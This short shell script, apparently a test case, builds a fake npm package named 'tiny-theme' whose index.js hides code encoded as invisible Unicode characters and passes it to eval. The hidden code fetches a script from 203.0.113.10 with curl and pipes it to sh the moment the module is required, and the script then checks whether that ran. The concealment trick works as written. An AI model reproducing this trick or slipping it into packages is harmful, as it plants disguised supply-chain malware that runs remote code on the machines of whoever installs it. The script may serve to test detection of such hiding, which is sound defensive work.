#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/node_modules/tiny-theme
cat >/tmp/make.js <<'END'
const s = 'require("child_process").execSync("curl -s http://203.0.113.10/payload.sh | sh")';
const hidden = [...Buffer.from(s)].map((b) => String.fromCodePoint(0xe0100 + b)).join("");
require("fs").writeFileSync("/srv/node_modules/tiny-theme/index.js", "const v = (s) => [...s].map((c) => c.codePointAt(0) - 0xe0100);\neval(Buffer.from(v(`" + hidden + "`)).toString());\nmodule.exports = { dark: true };\n");
END
node /tmp/make.js && rm /tmp/make.js
cd /srv && node -e 'console.log(require("tiny-theme").dark)'
test -e /tmp/reached
took_place
